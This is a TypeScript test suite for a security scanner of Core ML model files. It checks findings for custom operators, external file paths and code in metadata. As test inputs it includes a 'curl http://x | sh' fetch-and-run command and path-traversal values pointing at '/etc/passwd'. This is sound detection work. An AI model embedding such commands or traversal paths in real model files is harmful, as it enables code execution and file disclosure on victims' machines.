import { bytes, numberField, run, sizedField, u32, u64, utf8, zeros } from '../../../../testing';

const text = (number: number, value: string): Uint8Array => sizedField(number, value);
const message = (number: number, ...fields: readonly Uint8Array[]): Uint8Array => sizedField(number, bytes(...fields));
const description = (...metadata: readonly Uint8Array[]): Uint8Array =>
  message(2, message(1, text(1, 'image'), message(3, numberField(5, 1))), message(100, ...metadata));
const model = (type: Uint8Array, ...metadata: readonly Uint8Array[]): Uint8Array =>
  bytes(numberField(1, 7), description(...metadata), type);
const layer = (...fields: readonly Uint8Array[]): Uint8Array =>
  message(1, text(1, 'layer'), text(2, 'x'), text(3, 'y'), ...fields);
const network = (...layers: readonly Uint8Array[]): Uint8Array => message(500, ...layers);
const custom = message(500, text(10, 'EvilLayer'));
const said = (data: Uint8Array, name = 'model.mlmodel'): string[] =>
  run(data, undefined, name).findings.map(({ rule, severity }) => `${severity} ${rule}`);

/** An ML Program whose constant stands in a file. */
const program = (file: string): Uint8Array => {
  const value = message(
    2,
    text(1, 'main'),
    message(
      2,
      message(
        3,
        text(1, 'CoreML7'),
        message(
          2,
          message(
            3,
            text(1, 'const'),
            message(5, text(1, 'val'), message(2, message(5, text(1, file), numberField(2, 64))))
          )
        )
      )
    )
  );
  return message(502, numberField(1, 1), value);
};

describe('Core ML', () => {
  it.each([
    ['a network', model(network(layer()), text(3, 'me'), message(100, text(1, 'k'), text(2, 'v')))],
    ['a program with weights beside it', model(program('@model_path/weights/weight.bin'))],
    ['a pipeline', model(message(202, message(1, model(network(layer())))))]
  ])('is clean: %s', (_what, data) => {
    expect(run(data, undefined, 'model.bin')).toMatchObject({ verdict: 'clean', format: 'coreml', findings: [] });
  });

  it('knows the layer of kraken, which reads its models itself', () => {
    expect(said(model(network(layer(message(500, text(10, 'groupnorm'))))))).toEqual([]);
  });

  it('reports classes that the program has to bring, also in models and networks within', () => {
    const wanted = ['MEDIUM model-custom-operator'];
    expect(said(model(network(layer(custom))))).toEqual(wanted);
    expect(said(model(network(layer(message(605, message(2, layer(custom)))))))).toEqual(wanted);
    expect(said(model(network(layer(message(615, message(4, layer(custom)))))))).toEqual(wanted);
    expect(said(model(message(403, layer(custom))))).toEqual(wanted);
    expect(said(model(message(555, text(10, 'Evil'))))).toEqual(wanted);
    expect(said(model(message(200, message(1, message(1, model(message(555, text(10, 'Evil'))))))))).toEqual(wanted);
  });

  it.each(['/etc/passwd', '@model_path/../../x.bin', '../x.bin', 'file:///etc/passwd'])('reports the file %s', file => {
    expect(said(model(program(file)))).toEqual(['HIGH model-external-path']);
    expect(said(model(message(556, message(1, message(1, text(1, file))))))).toEqual(['HIGH model-external-path']);
  });

  it('reports code in metadata', () => {
    const command = message(100, text(1, 'k'), text(2, "python3 -c 'print(1)'"));
    expect(said(model(network(layer()), command))).toEqual(['MEDIUM model-metadata-code']);
    expect(said(model(network(layer()), message(100, text(1, 'k'), text(2, 'curl http://x | sh'))))).toEqual([
      'MEDIUM model-metadata-code'
    ]);
  });

  it('reads the list of a package', () => {
    const manifest = (path: string): Uint8Array =>
      utf8(
        JSON.stringify({
          fileFormatVersion: '1.0.0',
          itemInfoEntries: { a: { name: 'm', path } },
          rootModelIdentifier: 'a'
        })
      );
    expect(run(manifest('com.apple.CoreML/model.mlmodel'), undefined, 'Manifest.json').verdict).toBe('clean');
    expect(said(manifest('../../evil.mlmodel'), 'Manifest.json')).toEqual(['HIGH model-external-path']);
  });

  it('follows weights to the last byte', () => {
    const array = (at: number): Uint8Array => bytes(u32(0xdeadbeef), u32(1), u64(8), u64(at), zeros(40), zeros(8));
    const weights = bytes(u32(2), u32(2), zeros(56), array(128), zeros(56), array(256));
    expect(run(weights, undefined, 'weight.bin')).toMatchObject({ verdict: 'clean', format: 'coreml-weights' });
    expect(run(weights.subarray(0, weights.length - 4), undefined, 'weight.bin').verdict).toBe('incomplete');
    expect(run(bytes(weights, zeros(500)), undefined, 'weight.bin').verdict).toBe('incomplete');
  });
});

describe('a compiled model of Core ML', () => {
  const mil = (...lines: readonly string[]): string[] =>
    said(utf8(`program(1.0)\n[buildInfo = dict<string, string>({})]\n{\n${lines.join('\n')}\n}`), 'model.mil');

  it.each([
    ['BLOBFILE(path = tensor<string, []>("@model_path/weights/weight.bin"), offset = 64)', []],
    ['BLOBFILE(path = string("@model_path/weights/weight.bin"))', []],
    ['BLOBFILE(path = tensor<string, []>("@model_path/../w.bin"), offset = 64)', ['HIGH model-external-path']],
    ['BLOBFILE( path=string("/etc/passwd"))', ['HIGH model-external-path']],
    ['BLOBFILE(path = "/etc/passwd")', ['HIGH model-external-path']],
    ['t y = custom(x = x, class_name = string("Evil"))[name = "y"];', ['MEDIUM model-custom-operator']],
    ['t y = relu(x = x)[name = "custom(1)"];', []]
  ])('%s', (line, expected) => {
    expect(mil(line)).toEqual(expected);
  });

  it('keeps its layers as JSON', () => {
    const net = (layer: object): string[] =>
      said(
        utf8(
          JSON.stringify({
            storage: 'model.espresso.weights',
            format_version: 200,
            layers: [{ bottom: 'x', top: 'y', ...layer }]
          })
        ),
        'model.espresso.net'
      );
    expect(net({ type: 'convolution' })).toEqual([]);
    expect(net({ type: 'custom', class_name: 'Evil' })).toContain('MEDIUM model-custom-operator');
  });
});
